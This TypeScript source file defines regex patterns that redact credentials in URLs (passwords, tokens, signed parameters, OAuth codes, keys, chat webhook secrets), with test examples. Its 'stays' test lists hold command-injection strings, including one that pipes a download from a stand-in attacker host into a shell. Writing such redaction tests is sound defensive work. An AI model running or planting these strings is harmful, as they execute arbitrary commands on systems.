import type { CredentialPattern } from '../credential-pattern.js';
import { MASK } from '../mask.js';
import { keepHead } from './mask-value.js';
import { REST_OF_VALUE } from './value-shapes.js';

const LONG_NAME = '0123456789abcdef0123456789abcdef';
const PARAMETER_VALUE = '[^\\s"\'`&;|<>()\\\\#]';
const SIGNING =
  'x-(?:amz|goog|oss)-signature|signature|sig|hmac|auth|pwd|pass|jwt|(?:client_)?assertion|code_verifier|samlresponse';

/** Credentials in URLs. */
export const URL_PATTERNS: readonly CredentialPattern[] = [
  {
    name: 'password in a URL',
    matches: 'password of `scheme://user:password@host`, of web addresses and connection strings',
    pattern: /(?<head>:\/\/[^\s/?#@"'<>\\:]{0,256}:)(?:[^\s/?#"'<>\\;|&`$]|\$(?!\()){1,512}@/g,
    rest: /(?:[^\s/?#"'<>\\;|&`$]|\$(?!\()){1,512}@/y,
    bound: 0,
    replace: (_match, { head = '' }) => `${head}${MASK}@`,
    examples: [
      ['https://user:CANARY-77@host.example/', 'https://user:[redacted]@host.example/'],
      ['redis://:p@ss@host:6379', 'redis://:[redacted]@host:6379'],
      ['postgres://u:p%40x@h/db?x=1', 'postgres://u:[redacted]@h/db?x=1'],
      ['mongodb+srv://u:p@h.example', 'mongodb+srv://u:[redacted]@h.example'],
    ],
    stays: [
      ...['https://host.example:8080/a@b?c=d:e', 'https://user@host.example/', 'git@host:team/repo.git'],
      ...[
        'curl http://x:$(reboot)@h.example',
        'http://x:`reboot`@h',
        'http://u:p|sh@h',
        'http://u:p&reboot&@h',
      ],
    ],
  },
  {
    name: 'token in a URL',
    matches: 'user name of 20 or more characters in a URL without a password',
    pattern: /(?<head>:\/\/)(?:[^\s/?#@"'<>\\:;|&`$]|\$(?!\()){20,512}@/g,
    replace: (_match, { head = '' }) => `${head}${MASK}@`,
    examples: [[`git clone https://${LONG_NAME}@host/r.git`, 'git clone https://[redacted]@host/r.git']],
    stays: [
      ...['mailto:joe@host.example', `https://host.example/${LONG_NAME}`],
      'git clone https://aaaaaaaaaaaaaaaaaaaaaaaa;reboot;@h',
      'http://$(curl${IFS}evil.example|sh)aaaaaa@h',
    ],
  },
  {
    name: 'signed URL',
    matches:
      'query or fragment parameter that signs or lets in: `sig`, `signature`, `X-Amz-Signature` and its like, `hmac`, `auth`, `jwt`, `assertion`, `code_verifier`, `SAMLResponse`, `pass`, `pwd` (names that end like those of "named value" are masked there)',
    pattern: new RegExp(`(?<head>[?&#](?:amp;)?(?:${SIGNING})=)${PARAMETER_VALUE}{1,16384}`, 'gi'),
    rest: REST_OF_VALUE,
    replace: keepHead,
    examples: [
      [
        'https://b.example/o?X-Amz-Date=1&X-Amz-Signature=fe5f80&x=1',
        'https://b.example/o?X-Amz-Date=1&X-Amz-Signature=[redacted]&x=1',
      ],
      ['https://b.example/o?se=2030&sig=a%3D', 'https://b.example/o?se=2030&sig=[redacted]'],
      ['/o?Expires=1&amp;Signature=abc', '/o?Expires=1&amp;Signature=[redacted]'],
    ],
    stays: ['https://host.example/a?page=2&sort=key&X-Amz-Expires=900', 'sig=11 signals', '?author=joe'],
  },
  {
    name: 'code or key in a URL',
    matches:
      'query or fragment parameter `code` or `key` of 8 or more characters, or of 4 or more with a digit; plain numbers of up to 6 digits stay',
    pattern: new RegExp(
      `(?<head>[?&#](?:amp;)?(?:code|key)=)(?![0-9]{1,6}(?!${PARAMETER_VALUE}))(?=${PARAMETER_VALUE}{8}|(?=${PARAMETER_VALUE}{4})[A-Za-z_-]{0,8}[0-9])${PARAMETER_VALUE}{1,16384}`,
      'gi',
    ),
    rest: REST_OF_VALUE,
    replace: keepHead,
    examples: [
      ['/callback?code=4/0AX4XfWh&state=xyz', '/callback?code=[redacted]&state=xyz'],
      ['https://maps.example/api?key=k3yk3y', 'https://maps.example/api?key=[redacted]'],
    ],
    stays: [
      '/error?code=404',
      '/error?code=50012',
      '/list?key=name',
      'exit code=1',
      'https://host.example/a?zip_code=12345678',
    ],
  },
  {
    name: 'webhook address',
    matches: 'secret path of the webhook addresses of Slack and Discord, token of a Telegram bot',
    pattern:
      /(?<head>hooks\.slack\.com\/(?:services|workflows)\/|discord(?:app)?\.com\/api\/webhooks\/[0-9]{1,24}\/|api\.telegram\.org\/bot)[A-Za-z0-9_:/-]{8,512}/g,
    replace: keepHead,
    examples: [
      ['https://hooks.slack.com/services/T0/B0/XXXXXXXX', 'https://hooks.slack.com/services/[redacted]'],
      ['https://discord.com/api/webhooks/123/abc_DEF-0', 'https://discord.com/api/webhooks/123/[redacted]'],
      ['https://api.telegram.org/bot123456:AAabcdef', 'https://api.telegram.org/bot[redacted]'],
    ],
    stays: ['https://api.slack.com/messaging/webhooks'],
  },
];
